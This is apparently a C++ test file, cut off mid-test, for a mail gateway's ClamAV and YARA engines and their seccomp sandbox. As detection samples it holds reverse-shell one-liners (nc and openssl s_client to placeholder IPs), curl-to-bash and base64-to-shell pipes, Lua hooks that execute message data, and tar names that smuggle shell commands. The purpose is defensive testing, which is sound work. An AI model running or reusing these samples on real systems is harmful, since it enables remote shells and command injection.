// The antivirus and YARA engines (src/inspect/av_clamav.cc, av_yara.cc):
//  - ClamAV with a test database built here (EICAR by MD5, a marker by SHA-256, markers by
//    hex body signature): detections, clean bytes, errors, the encrypted-archive heuristic
//    with container parsing off;
//  - what a libclamav / libyara scan asks of the kernel under a no-file seccomp filter and
//    under the worker's allow-list (src/sandbox/lockdown.cc);
//  - every shipped YARA rule (rules/yara/*.yar) on crafted samples, near misses, extra
//    rule directories, compile errors, the per-blob match bound;
//  - with BULWARK_CORPUS set: no YARA threat on the 4,150 ham messages.
// No test file, sample or signature here contains EICAR verbatim: it is assembled in code.
#include <gtest/gtest.h>

#include <archive.h>
#include <archive_entry.h>
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iterator>
#include <map>
#include <regex>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wpedantic"
#pragma GCC diagnostic ignored "-Wold-style-cast"
#pragma GCC diagnostic ignored "-Wshadow"
#include <clamav.h>
#include <seccomp.h>
#include <yara.h>
#pragma GCC diagnostic pop

#include "core/config.h"
#include "inspect/av.h"
#include "inspect/engines.h"
#include "inspect/inspect.h"
#include "mime/parser.h"

using namespace bulwark;
using namespace bulwark::inspect;
namespace fs = std::filesystem;

namespace {

// ---- test data ----

// EICAR's published 68-byte test string, assembled so that no file holds it whole.
std::string eicar() {
  std::string s = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$";
  s += "EICAR-STANDARD-";
  s += "ANTIVIRUS-TEST-FILE!$H+H*";
  return s;
}

// Markers for the body (.ndb) and SHA-256 (.hsb) signatures; innocuous text.
const std::string kNdbMarker1 = "bulwark-ndb-test-marker-one:7f3a91";
const std::string kNdbMarker2 = "bulwark-ndb-test-marker-two:c05e22";
const std::string kHsbSample = "Bulwark .hsb test sample: SHA-256 signature, not malware.\n";

// The sample of rules/yara/unc4841_hashes.yar's self-test entry.
const std::string kYaraHashSample = "Bulwark YARA hash-list self-test sample. Not malware.\n";

std::string hex(const unsigned char* p, unsigned int n) {
  static const char* d = "0123456789abcdef";
  std::string out;
  for (unsigned int i = 0; i < n; ++i) {
    out += d[p[i] >> 4];
    out += d[p[i] & 15];
  }
  return out;
}

std::string digest(const char* alg, const std::string& data) {
  unsigned char out[64];
  unsigned int len = sizeof out;
  if (!cl_hash_data(alg, data.data(), data.size(), out, &len)) return "";
  return hex(out, len);
}

std::string hex_of(const std::string& s) {
  return hex(reinterpret_cast<const unsigned char*>(s.data()), static_cast<unsigned>(s.size()));
}

struct TempDir {
  fs::path path;
  TempDir() {
    std::string t = (fs::temp_directory_path() / "bulwark-av-XXXXXX").string();
    if (::mkdtemp(t.data())) path = t;
  }
  ~TempDir() {
    std::error_code ec;
    if (!path.empty()) fs::remove_all(path, ec);
  }
  TempDir(const TempDir&) = delete;
  TempDir& operator=(const TempDir&) = delete;
};

void write_file(const fs::path& p, const std::string& data) {
  std::ofstream f(p, std::ios::binary);
  f << data;
}

std::string read_file(const fs::path& p) {
  std::ifstream f(p, std::ios::binary);
  std::string out;
  char buf[65536];
  while (f.read(buf, sizeof buf) || f.gcount() > 0)
    out.append(buf, static_cast<std::size_t>(f.gcount()));
  return out;
}

// The test database: EICAR by MD5 (.hdb), a sample by SHA-256 (.hsb), two markers by hex
// body signature (.ndb, target 0 = any file, offset * = anywhere).
void write_test_database(const fs::path& dir) {
  const std::string e = eicar();
  write_file(dir / "bulwark-test.hdb",
             digest("md5", e) + ":" + std::to_string(e.size()) + ":Bulwark.Test.EICAR\n");
  write_file(dir / "bulwark-test.hsb", digest("sha256", kHsbSample) + ":" +
                                           std::to_string(kHsbSample.size()) +
                                           ":Bulwark.Test.SHA256\n");
  write_file(dir / "bulwark-test.ndb", "Bulwark.Test.Marker1:0:*:" + hex_of(kNdbMarker1) + "\n" +
                                           "Bulwark.Test.Marker2:0:*:" + hex_of(kNdbMarker2) +
                                           "\n");
}

// Signature names from an unsigned database carry libclamav's ".UNOFFICIAL" suffix.
const std::string kUnofficial = ".UNOFFICIAL";

// ---- archives, built in memory with libarchive ----

struct Member {
  std::string name;
  std::string data;
};

// format: "zip", "ustar", "gnutar", "pax"; options e.g. "zip:encryption=zipcrypt".
std::string make_archive(const std::string& format, const std::vector<Member>& members,
                         const char* options = nullptr, const char* passphrase = nullptr) {
  archive* a = archive_write_new();
  if (format == "zip")
    archive_write_set_format_zip(a);
  else if (format == "ustar")
    archive_write_set_format_ustar(a);
  else if (format == "gnutar")
    archive_write_set_format_gnutar(a);
  else
    archive_write_set_format_pax(a);
  if (options) {
    EXPECT_EQ(archive_write_set_options(a, options), ARCHIVE_OK) << archive_error_string(a);
  }
  if (passphrase) archive_write_set_passphrase(a, passphrase);
  std::string buf(1 << 20, '\0');
  size_t used = 0;
  archive_write_open_memory(a, buf.data(), buf.size(), &used);
  for (const auto& m : members) {
    archive_entry* e = archive_entry_new();
    archive_entry_set_pathname(e, m.name.c_str());
    archive_entry_set_size(e, static_cast<la_int64_t>(m.data.size()));
    archive_entry_set_filetype(e, AE_IFREG);
    archive_entry_set_perm(e, 0644);
    EXPECT_EQ(archive_write_header(a, e), ARCHIVE_OK) << archive_error_string(a);
    archive_write_data(a, m.data.data(), m.data.size());
    archive_entry_free(e);
  }
  archive_write_close(a);
  archive_write_free(a);
  buf.resize(used);
  return buf;
}

// ---- engines and findings ----

struct Env {
  TempDir db;
  std::unique_ptr<Engines> engines;
  std::string error;
  InspectLimits limits;
  Env() {
    write_test_database(db.path);
    InspectConfig c;
    c.clamav_database = db.path.string();
    auto e = Engines::load(c);
    if (e)
      engines = std::move(e).value();
    else
      error = e.error().message;
  }
};

Env& env() {
  static Env e;
  return e;
}

struct Found {
  std::vector<std::string> threats;  // "kind:name"
  std::vector<std::string> symbols;  // "SYMBOL:detail"
  bool has_threat(const std::string& kind, const std::string& name) const {
    return std::find(threats.begin(), threats.end(), kind + ":" + name) != threats.end();
  }
  bool has_symbol(const std::string& sym, const std::string& detail) const {
    return std::find(symbols.begin(), symbols.end(), sym + ":" + detail) != symbols.end();
  }
  bool has_symbol_named(const std::string& sym) const {
    return std::any_of(symbols.begin(), symbols.end(),
                       [&](const std::string& s) { return s.rfind(sym + ":", 0) == 0; });
  }
  std::string str() const {
    std::string out = "threats [";
    for (const auto& t : threats) out += " " + t;
    out += " ] symbols [";
    for (const auto& s : symbols) out += " " + s;
    return out + " ]";
  }
};

Found collect(Inspector& insp) {
  Found f;
  for (const auto& t : insp.results().threats) f.threats.push_back(t.kind + ":" + t.name);
  for (const auto& s : insp.results().symbols) f.symbols.push_back(s.symbol + ":" + s.detail);
  return f;
}

Found clam(const std::string& bytes, const std::string& name = "sample") {
  Inspector insp(*env().engines, env().limits);
  scan_clamav(*env().engines->clamav(), Blob{bytes, "1", {name}, "", 0}, insp);
  return collect(insp);
}

Found yara(const YaraRules& y, const std::string& bytes) {
  Inspector insp(*env().engines, env().limits);
  scan_yara(y, Blob{bytes, "1", {}, "", 0}, insp);
  return collect(insp);
}

Found yara(const std::string& bytes) {
  return yara(*env().engines->yara(), bytes);
}

// ---- running a scan in a child process under a seccomp filter ----

enum class Filter {
  kNoFiles,           // everything allowed except file-system calls, which fail with EPERM
  kNoFilesFakeMkdir,  // the same, but mkdir/mkdirat "succeed" (errno 0) creating nothing
  kWorkerAllowList,   // lockdown.cc's allow-list; anything else is trapped and recorded
  kWorkerProposed,    // the allow-list plus: mkdir -> success, chmod/openat -> EACCES
};

// Syscalls outside the allow-list, recorded by the SIGSYS handler (no allocation there).
volatile sig_atomic_t g_trapped[256];
volatile sig_atomic_t g_trapped_count = 0;

#if defined(__x86_64__)
void on_sigsys(int, siginfo_t* si, void* uc_) {
  const int n = g_trapped_count;
  if (n < 256) {
    g_trapped[n] = si->si_syscall;
    g_trapped_count = n + 1;
  }
  auto* uc = static_cast<ucontext_t*>(uc_);
  uc->uc_mcontext.gregs[REG_RAX] = -EPERM;  // the call fails instead of killing the process
}
#endif

bool apply_filter(Filter f) {
  const int file_calls[] = {SCMP_SYS(open),     SCMP_SYS(openat),    SCMP_SYS(creat),
                            SCMP_SYS(mkdir),    SCMP_SYS(mkdirat),   SCMP_SYS(unlink),
                            SCMP_SYS(unlinkat), SCMP_SYS(rmdir),     SCMP_SYS(rename),
                            SCMP_SYS(renameat), SCMP_SYS(renameat2), SCMP_SYS(chmod),
                            SCMP_SYS(fchmodat), SCMP_SYS(link),      SCMP_SYS(linkat),
                            SCMP_SYS(symlink),  SCMP_SYS(symlinkat)};
  scmp_filter_ctx ctx = nullptr;
  int rc = 0;
  if (f == Filter::kNoFiles || f == Filter::kNoFilesFakeMkdir) {
    ctx = seccomp_init(SCMP_ACT_ALLOW);
    for (int sc : file_calls) {
      const bool fake =
          f == Filter::kNoFilesFakeMkdir && (sc == SCMP_SYS(mkdir) || sc == SCMP_SYS(mkdirat));
      rc |= seccomp_rule_add(ctx, fake ? SCMP_ACT_ERRNO(0) : SCMP_ACT_ERRNO(EPERM), sc, 0);
    }
  } else {
    struct sigaction sa {};
#if defined(__x86_64__)
    sa.sa_sigaction = on_sigsys;
#endif
    sa.sa_flags = SA_SIGINFO;
    if (::sigaction(SIGSYS, &sa, nullptr) != 0) return false;
    ctx = seccomp_init(SCMP_ACT_TRAP);
    // The allow-list of src/sandbox/lockdown.cc (kill/tgkill unrestricted here).
    for (int sc : {SCMP_SYS(read),         SCMP_SYS(write),        SCMP_SYS(readv),
                   SCMP_SYS(writev),       SCMP_SYS(recvfrom),     SCMP_SYS(sendto),
                   SCMP_SYS(recvmsg),      SCMP_SYS(sendmsg),      SCMP_SYS(poll),
                   SCMP_SYS(ppoll),        SCMP_SYS(mmap),         SCMP_SYS(munmap),
                   SCMP_SYS(mremap),       SCMP_SYS(mprotect),     SCMP_SYS(brk),
                   SCMP_SYS(madvise),      SCMP_SYS(futex),        SCMP_SYS(clock_gettime),
                   SCMP_SYS(clock_getres), SCMP_SYS(gettimeofday), SCMP_SYS(clock_nanosleep),
                   SCMP_SYS(nanosleep),    SCMP_SYS(sched_yield),  SCMP_SYS(getpid),
                   SCMP_SYS(gettid),       SCMP_SYS(rt_sigreturn), SCMP_SYS(rt_sigprocmask),
                   SCMP_SYS(sigaltstack),  SCMP_SYS(exit),         SCMP_SYS(exit_group),
                   SCMP_SYS(getrandom),    SCMP_SYS(tgkill),       SCMP_SYS(kill),
                   SCMP_SYS(fstat),        SCMP_SYS(newfstatat)})
      rc |= seccomp_rule_add(ctx, SCMP_ACT_ALLOW, sc, 0);
    if (f == Filter::kWorkerProposed) {
      rc |= seccomp_rule_add(ctx, SCMP_ACT_ERRNO(0), SCMP_SYS(mkdir), 0);
      rc |= seccomp_rule_add(ctx, SCMP_ACT_ERRNO(0), SCMP_SYS(mkdirat), 0);
      for (int sc : {SCMP_SYS(chmod), SCMP_SYS(fchmodat), SCMP_SYS(open), SCMP_SYS(openat)})
        rc |= seccomp_rule_add(ctx, SCMP_ACT_ERRNO(EACCES), sc, 0);
    }
  }
  if (!ctx) return false;
  rc |= seccomp_load(ctx);
  seccomp_release(ctx);
  return rc == 0;
}

struct ChildResult {
  int status = -1;
  std::string out;           // what the child reported
  std::vector<int> trapped;  // syscalls outside the allow-list (kWorker* filters)
  std::string trapped_names() const {
    std::set<std::string> names;
    for (int nr : trapped) {
      char* n = seccomp_syscall_resolve_num_arch(SCMP_ARCH_NATIVE, nr);
      names.insert(n ? n : std::to_string(nr));
      std::free(n);
    }
    std::string joined;
    for (const auto& n : names) joined += (joined.empty() ? "" : " ") + n;
    return joined;
  }
};

// Runs `fn` in a forked child under filter `f`; the child's report comes back on a pipe.
ChildResult run_filtered(Filter f, const std::function<std::string()>& fn) {
  ChildResult r;
  int fds[2];
  if (::pipe(fds) != 0) return r;
  const pid_t pid = ::fork();
  if (pid == 0) {
    ::close(fds[0]);
    g_trapped_count = 0;
    std::string out = apply_filter(f) ? fn() : "filter failed";
    const int n = g_trapped_count;
    out += "\n#trapped";
    for (int i = 0; i < n; ++i) out += " " + std::to_string(g_trapped[i]);
    out += "\n";
    std::size_t off = 0;
    while (off < out.size()) {
      const ssize_t w = ::write(fds[1], out.data() + off, out.size() - off);
      if (w <= 0) break;
      off += static_cast<std::size_t>(w);
    }
    ::_exit(0);
  }
  ::close(fds[1]);
  char buf[4096];
  ssize_t n;
  while ((n = ::read(fds[0], buf, sizeof buf)) > 0) r.out.append(buf, static_cast<size_t>(n));
  ::close(fds[0]);
  ::waitpid(pid, &r.status, 0);
  const std::size_t t = r.out.rfind("\n#trapped");
  if (t != std::string::npos) {
    std::istringstream in(r.out.substr(t + 9));
    int nr;
    while (in >> nr) r.trapped.push_back(nr);
    r.out.resize(t);
  }
  return r;
}

int yara_continue(YR_SCAN_CONTEXT*, int, void*, void*) {
  return CALLBACK_CONTINUE;
}

// ---- the shipped rules ----

std::vector<std::string> shipped_rule_names() {
  std::vector<std::string> names;
  const std::regex rule_re(R"(^\s*(private\s+|global\s+)*rule\s+([A-Za-z_][A-Za-z0-9_]*))");
  for (const auto& e : fs::directory_iterator(fs::path(BULWARK_SOURCE_DIR) / "rules" / "yara")) {
    if (e.path().extension() != ".yar") continue;
    std::istringstream in(read_file(e.path()));
    std::string line;
    std::smatch m;
    while (std::getline(in, line))
      if (std::regex_search(line, m, rule_re)) names.push_back(m[2]);
  }
  std::sort(names.begin(), names.end());
  return names;
}

std::string elf(const std::string& strings) {
  std::string s(
      "\x7f"
      "ELF\x02\x01\x01",
      7);
  s.resize(64, '\0');
  return s + strings;
}

struct Positive {
  std::string rule;
  bool suspicious;
  std::string label;
  std::string sample;
};

std::vector<Positive> positives() {
  const std::string lua_seaspray =
      "function on_attachment(attachment)\n"
      "  if string.find(attachment:filename(), 'x') ~= nil then\n"
      "    os.execute('cp '..tostring(tmpfile)..' /tmp/'..attachment:filename())\n"
      "  end\nend\n";
  const std::string lua_seaside =
      "function on_helo()\n  local helosend = 'pd'..' '..helo\n  os.execute(helosend)\nend\n";
  const std::string lua_popen_name = "local f = io.popen('file -b ' .. part.filename)\n";
  const std::string lua_skipjack =
      "if hdr:name() == 'Content-ID' and hdr:body() ~= nil then\n"
      "  if string.match(hdr:body(), \"^[%w%+/=\\r\\n]+$\") then\n"
      "    os.execute(\"echo '\" .. hdr:body() .. \"' | openssl aes-256-cbc -d -a -K 00 -iv 00"
      " | base64 -d | sh 2>/dev/null\")\n  end\nend\n";
  const std::string lua_decode =
      "local v = hdr:body()\nlocal cmd = base64_decode(v)\nio.popen(cmd)\n";
  std::string installer = "#!/bin/sh\n# installs mod_content.lua\necho '";
  installer +=
      "aWYgaGRyOm5hbWUoKSA9PSAnQ29udGVudC1JRCcgdGhlbgogIG9zLmV4ZWN1dGUoIm9wZW5zc2wgYWVzLTI1Ni1jYmMg"
      "LWQiKQplbmQK";
  installer += "' | base64 -d > mod_content.lua\n";
  const std::string tar_cmd = "'`echo dG91Y2ggL3RtcC94 | base64 -d | sh`'.tar";
  const std::string long_cmd = "'`echo " + std::string(150, 'A') + " | base64 -d | sh`'.txt";
  return {
      {"Bulwark_Shell_Base64_Blob_To_Shell", false, "echo|base64 -d|sh",
       "#!/bin/sh\necho c2V0c2lkIHNoIC1jICJ0ZXN0Ig== | base64 -d | sh\n"},
      {"Bulwark_Shell_Base64_Blob_To_Shell", false, "echo -n '..'|base64 --decode|bash",
       "echo -n 'aWQ7dW5hbWUgLWE7aG9zdG5hbWU=' | /usr/bin/base64 --decode | /bin/bash"},
      {"Bulwark_Shell_Base64_Blob_To_Shell", false, "printf|xxd -r -p|sh",
       "printf '%s' 6563686f2068656c6c6f0a | xxd -r -p | sh"},
      {"Bulwark_Shell_Base64_Blob_To_Shell", false, "printf \\x..|sh",
       "printf '\\x69\\x64\\x3b\\x75\\x6e\\x61\\x6d\\x65' | sh"},
      {"Bulwark_Shell_Obfuscated_Base64_Shell", false, "ESG name payload",
       "abcdefg=c2V0c2lk;ee=ba;G=s;_ech_o $abcdefg_${ee}se64 -d_${G}h;wh$ee"},
      {"Bulwark_Shell_Base64_Decode_Pipe", true, "curl|base64 --decode|bash",
       "curl -s https://example.invalid/x | base64 --decode | bash"},
      {"Bulwark_Shell_Mkfifo_Reverse_Shell", false, "mkfifo+sh -i+openssl",
       "setsid sh -c \"mkfifo /tmp/p; sh -i </tmp/p 2>&1 | openssl s_client -quiet -connect "
       "192.0.2.1:443 >/tmp/p 2>&1; rm /tmp/p\""},
      {"Bulwark_Shell_Mkfifo_Reverse_Shell", false, "mkfifo+sh -i+nc",
       "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.7 4444 >/tmp/f"},
      {"Bulwark_Shell_OpenSSL_SClient_Shell", false, "s_client|bash",
       "openssl s_client -quiet -connect 198.51.100.2:8443 | /bin/bash"},
      {"Bulwark_Shell_OpenSSL_SClient_Shell", false, "sh -i|s_client",
       "sh -i 2>&1 | openssl s_client -quiet -connect 198.51.100.2:8443"},
      {"Bulwark_Lua_Exec_Message_Data", false, "SEASPRAY-style", lua_seaspray},
      {"Bulwark_Lua_Exec_Message_Data", false, "SEASIDE-style", lua_seaside},
      {"Bulwark_Lua_Exec_Message_Data", false, "io.popen with filename", lua_popen_name},
      {"Bulwark_Lua_Header_Decode_Exec", false, "SKIPJACK-style", lua_skipjack},
      {"Bulwark_Lua_Header_Decode_Exec", false, "decode+popen", lua_decode},
      {"Bulwark_ESG_ContentID_AES_Shell", false, "SKIPJACK hook", lua_skipjack},
      {"Bulwark_ESG_ContentID_AES_Shell", false, "SKIPJACK installer (base64)", installer},
      {"Bulwark_ESG_Tar_Name_Command_Injection", false, "ustar name",
       make_archive("ustar", {{tar_cmd, "hello"}})},
      {"Bulwark_ESG_Tar_Name_Command_Injection", false, "GNU long name",
       make_archive("gnutar", {{long_cmd, "hello"}})},
      {"Bulwark_ESG_Tar_Name_Command_Injection", false, "pax path",
       make_archive("pax", {{long_cmd, "hello"}})},
      {"Bulwark_ESG_Tar_Name_Command_Injection", false, "second member",
       make_archive("ustar", {{"readme.txt", std::string(700, 'r')}, {tar_cmd, "x"}})},
      {"Bulwark_Shell_Quoted_Backtick_Command", true, "name in text",
       "Content-Disposition: attachment; filename=\"'`id;uname -a`'.tar\"\n"},
      {"Bulwark_Hash_List_Selftest", false, "hash-list test sample", kYaraHashSample},
      {"Bulwark_ESG_Whirlpool_Strings", false, "ELF with WHIRLPOOL strings",
       elf(std::string("plain_connect\0ssl_connect\0SSLShell.c\0", 37))},
      {"Bulwark_ESG_Seaspy_Masquerade", true, "ELF named BarracudaMailService",
       elf(std::string("usage: ./BarracudaMailService <Network-Interface>\0", 50))},
  };
}

// Rules no sample can trigger: they match published sample hashes, and Bulwark has no
// samples. Their mechanism is covered by Bulwark_Hash_List_Selftest.
const std::set<std::string> kHashOnlyRules = {"Bulwark_ESG_Published_SHA256",
                                              "Bulwark_ESG_Published_MD5"};

// Near misses: administration text that shares words with the rules and must not match.
std::vector<std::string> near_misses() {
  return {
      "To check the certificate run: openssl s_client -connect mail.example.com:443 -starttls smtp",
      "echo hello | sh\n",
      "base64 -d attachment.b64 > attachment.pdf\n",
      "cat notes | base64 --decode > notes.txt; sh ./install.sh\n",
      "mkfifo /tmp/pipe && tail -f /var/log/syslog > /tmp/pipe &\n",
      "nc -z example.com 25 && echo open\n",
      "local ok = os.execute('ls -l /tmp')\nprint(ok)\n",
      "Use `ls -l` to list files, and 'quotes' for literals.\n",
      "Run the command `make install` after 'configure'.\n",
      "openssl aes-256-cbc -d -in backup.enc -out backup.tar\n",
      "Content-ID: <part1.01020304@example.com>\n",
      make_archive("ustar", {{"report.txt", "quarterly figures"}, {"data/a.csv", "1,2,3"}}),
      make_archive("ustar", {{"notes.txt", "see '`uname -a`' in the manual"}}),
      elf(std::string("BarracudaMail\0", 14)),
      kYaraHashSample + "x",
  };
}

std::vector<fs::path> corpus_messages(const std::vector<std::string>& sets) {
  std::vector<fs::path> out;
  const char* root = std::getenv("BULWARK_CORPUS");
  if (!root || !*root) return out;
  for (const auto& s : sets) {
    const fs::path dir = fs::path(root) / s;
    std::error_code ec;
    for (const auto& e : fs::directory_iterator(dir, ec))
      if (e.is_regular_file()) out.push_back(e.path());
  }
  std::sort(out.begin(), out.end());
  return out;
}

}  // namespace

// ===================================================================== ClamAV

TEST(ClamAv, LoadsTestDatabase) {
  ASSERT_TRUE(env().engines) << env().error;
  ASSERT_NE(env().engines->clamav(), nullptr);
  const std::string d = clamav_describe(*env().engines->clamav());
  EXPECT_EQ(d, std::string("ClamAV ") + cl_retver() + ", 4 signatures");
}

TEST(ClamAv, LoadErrorsAreReported) {
  auto missing = load_clamav("/nonexistent/bulwark-clamav-db");
  ASSERT_FALSE(missing);
  EXPECT_NE(missing.error().message.find("/nonexistent/bulwark-clamav-db"), std::string::npos);

  TempDir empty;
  auto none = load_clamav(empty.path.string());
  EXPECT_FALSE(none);

  TempDir bad;
  write_file(bad.path / "broken.ndb", "Broken.Sig:0:*:zz-not-hex\n");
  auto broken = load_clamav(bad.path.string());
  ASSERT_FALSE(broken);
  EXPECT_NE(broken.error().message.find("Malformed"), std::string::npos) << broken.error().message;

  EXPECT_FALSE(load_clamav(""));
}

TEST(ClamAv, DetectsEicarByMd5) {
  ASSERT_TRUE(env().engines) << env().error;
  const std::string e = eicar();
  ASSERT_EQ(e.size(), 68u);
  const Found f = clam(e, "eicar.com");
  EXPECT_TRUE(f.has_threat("virus", "Bulwark.Test.EICAR" + kUnofficial)) << f.str();
  EXPECT_EQ(f.threats.size(), 1u) << f.str();
  EXPECT_TRUE(f.symbols.empty()) << f.str();
}

TEST(ClamAv, DetectsSha256AndBodySignatures) {
  ASSERT_TRUE(env().engines) << env().error;
  Found f = clam(kHsbSample);
  EXPECT_TRUE(f.has_threat("virus", "Bulwark.Test.SHA256" + kUnofficial)) << f.str();

  f = clam("Dear customer,\nplease find " + kNdbMarker1 + " attached.\n");
  EXPECT_TRUE(f.has_threat("virus", "Bulwark.Test.Marker1" + kUnofficial)) << f.str();
  EXPECT_EQ(f.threats.size(), 1u) << f.str();

  // All-match mode: every signature that matches is reported, not just the first.
  f = clam(kNdbMarker1 + "\n" + std::string(5000, '.') + kNdbMarker2 + "\n");
  EXPECT_TRUE(f.has_threat("virus", "Bulwark.Test.Marker1" + kUnofficial)) << f.str();
  EXPECT_TRUE(f.has_threat("virus", "Bulwark.Test.Marker2" + kUnofficial)) << f.str();
}

TEST(ClamAv, CleanBytesRaiseNothing) {
  ASSERT_TRUE(env().engines) << env().error;
  for (const std::string& s : {std::string("Hello,\r\nthe meeting is at 10.\r\n"),
                               std::string(100000, 'a'), eicar().substr(0, 67), eicar() + "\n",
                               std::string("\x89PNG\r\n\x1a\n", 8), std::string(1, '\0')}) {
    const Found f = clam(s);
    EXPECT_TRUE(f.threats.empty() && f.symbols.empty()) << f.str();
  }
  // An empty blob has nothing to scan: no finding, no error.
  const Found f = clam("");
  EXPECT_TRUE(f.threats.empty() && f.symbols.empty()) << f.str();
}

// EICAR inside an encrypted zip. With container parsing off, libclamav never parses the
// zip, so neither the member nor the encryption is seen: no threat, no heuristic, no
// error. That is by design: Bulwark's archive walker opens archives itself and raises
// ARCHIVE_ENCRYPTED (src/inspect/archive.cc) for what it cannot decrypt, and hands every
// member it can open back to scan_clamav. This test pins libclamav's side of that contract.
TEST(ClamAv, EncryptedZipIsLeftToTheArchiveWalker) {
  ASSERT_TRUE(env().engines) << env().error;
  const std::string zip =
      make_archive("zip", {{"eicar.com", eicar()}}, "zip:encryption=zipcrypt", "infected");
  ASSERT_GT(zip.size(), 100u);
  ASSERT_EQ(zip.substr(0, 4), std::string("PK\x03\x04"));
  const Found f = clam(zip, "invoice.zip");
  EXPECT_TRUE(f.threats.empty()) << f.str();
  EXPECT_FALSE(f.has_symbol_named("AV_HEURISTIC")) << f.str();
  EXPECT_FALSE(f.has_symbol_named("AV_ERROR")) << f.str();

  // The same member in a plain zip: ClamAV does not look inside either (no container
  // parsing), and the whole-file MD5 of the zip is not EICAR's.
  const Found plain = clam(make_archive("zip", {{"eicar.com", eicar()}}), "plain.zip");
  EXPECT_TRUE(plain.threats.empty()) << plain.str();
}

// What libclamav 1.x asks of the kernel for one in-memory scan. Every scan makes a temp
// directory (scan_common: mkdir "<tmpdir>/YYYYMMDD_HHMMSS-scantemp.XXXX") and removes it
// afterwards (chmod, opendir, rmdir), even when nothing is written into it.
TEST(ClamAvSeccomp, NoFileFilterFailsTheScanAndItIsReportedAsAvError) {
  ASSERT_TRUE(env().engines) << env().error;
  // mkdir fails -> libclamav logs "Can't create temporary directory for scan" and returns
  // CL_CLEAN without having matched anything. scan_clamav sees the logged error: AV_ERROR,
  // never clean, never a silent miss.
  const ChildResult r = run_filtered(Filter::kNoFiles, [] { return clam(eicar()).str(); });
  ASSERT_TRUE(WIFEXITED(r.status)) << r.status;
  EXPECT_EQ(r.out.find("virus:"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("AV_ERROR:clamav: Can't create temporary directory"), std::string::npos)
      << r.out;
}

TEST(ClamAvSeccomp, FakeMkdirLetsTheScanRunWithoutFiles) {
  ASSERT_TRUE(env().engines) << env().error;
  // mkdir "succeeds" without creating anything; the clean-up's chmod/opendir fail quietly.
  const ChildResult r = run_filtered(Filter::kNoFilesFakeMkdir, [] { return clam(eicar()).str(); });
  ASSERT_TRUE(WIFEXITED(r.status)) << r.status;
  EXPECT_NE(r.out.find("virus:Bulwark.Test.EICAR" + kUnofficial), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("AV_ERROR"), std::string::npos) << r.out;
}

#if defined(__x86_64__)
// Under the worker's allow-list (src/sandbox/lockdown.cc, where anything else kills the
// worker), a ClamAV scan needs exactly: mkdir, chmod, openat. This test records them
// instead of dying, so a libclamav upgrade that needs more shows up here first.
TEST(ClamAvSeccomp, SyscallsOutsideTheWorkerAllowList) {
  ASSERT_TRUE(env().engines) << env().error;
  const std::string samples[] = {eicar(), "plain text\n", kNdbMarker1,
                                 make_archive("zip", {{"a.txt", "hello"}})};
  for (const auto& s : samples) {
    const ChildResult r = run_filtered(Filter::kWorkerAllowList, [&] { return clam(s).str(); });
    ASSERT_TRUE(WIFEXITED(r.status)) << r.status;
    const std::string names = r.trapped_names();
    EXPECT_EQ(names, "chmod mkdir openat") << r.out;
  }
  // With the filter proposed for the worker (mkdir -> ERRNO(0), chmod/openat -> EACCES),
  // the scan runs, detects, and nothing else is asked for.
  const ChildResult r = run_filtered(Filter::kWorkerProposed, [] { return clam(eicar()).str(); });
  ASSERT_TRUE(WIFEXITED(r.status)) << r.status;
  EXPECT_TRUE(r.trapped.empty()) << r.trapped_names();
  EXPECT_NE(r.out.find("virus:Bulwark.Test.EICAR" + kUnofficial), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find("AV_ERROR"), std::string::npos) << r.out;
}

// scan_yara sets SCAN_FLAGS_NO_TRYCATCH: with libyara's try/catch on, every scan installs
// and removes SIGSEGV/SIGBUS handlers (rt_sigaction), which the worker's allow-list kills.
TEST(YaraSeccomp, ScanNeedsNothingOutsideTheWorkerAllowList) {
  ASSERT_TRUE(env().engines) << env().error;
  const ChildResult r = run_filtered(Filter::kWorkerAllowList, [] {
    return yara("echo c2V0c2lkIHNoIC1jICJ0ZXN0Ig== | base64 -d | sh\n").str() + " " +
           yara(kYaraHashSample).str();
  });
  ASSERT_TRUE(WIFEXITED(r.status)) << r.status;
  EXPECT_TRUE(r.trapped.empty()) << r.trapped_names();
  EXPECT_NE(r.out.find("malware:Bulwark_Shell_Base64_Blob_To_Shell"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("malware:Bulwark_Hash_List_Selftest"), std::string::npos) << r.out;

  // The same scan through libyara with try/catch on asks for rt_sigaction.
  YR_COMPILER* c = nullptr;
  ASSERT_EQ(yr_compiler_create(&c), ERROR_SUCCESS);
  ASSERT_EQ(yr_compiler_add_string(c, "rule t { strings: $a = \"abc\" condition: $a }", nullptr),
            0);
  YR_RULES* rules = nullptr;
  ASSERT_EQ(yr_compiler_get_rules(c, &rules), ERROR_SUCCESS);
  yr_compiler_destroy(c);
  const ChildResult t = run_filtered(Filter::kWorkerAllowList, [rules] {
    const std::string data = "xxabcxx";
    const int rc = yr_rules_scan_mem(rules, reinterpret_cast<const uint8_t*>(data.data()),
                                     data.size(), 0, yara_continue, nullptr, 5);
    return std::to_string(rc);
  });
  yr_rules_destroy(rules);
  EXPECT_EQ(t.trapped_names(), "rt_sigaction") << t.out;
}
#endif

// ===================================================================== YARA

TEST(Yara, ShippedRulesLoad) {
  ASSERT_TRUE(env().engines) << env().error;
  ASSERT_NE(env().engines->yara(), nullptr);
  const auto names = shipped_rule_names();
  ASSERT_GE(names.size(), 14u);
  const std::string d = yara_describe(*env().engines->yara());
  EXPECT_NE(d.find(std::to_string(names.size()) + " rules"), std::string::npos) << d;
  EXPECT_NE(d.find("0 local"), std::string::npos) << d;
}

TEST(Yara, EveryShippedRuleHasMetaAndASourceInTheReadme) {
  const std::string readme = read_file(fs::path(BULWARK_SOURCE_DIR) / "rules" / "README.md");
  for (const auto& e : fs::directory_iterator(fs::path(BULWARK_SOURCE_DIR) / "rules" / "yara")) {
    if (e.path().extension() != ".yar") continue;
    const std::string text = read_file(e.path());
    // Every rule block carries description, source and severity.
    const std::regex rule_re(R"(\nrule\s+([A-Za-z0-9_]+)\s*(:\s*suspicious)?\s*\n\{)");
    std::smatch m;
    std::string rest = text;
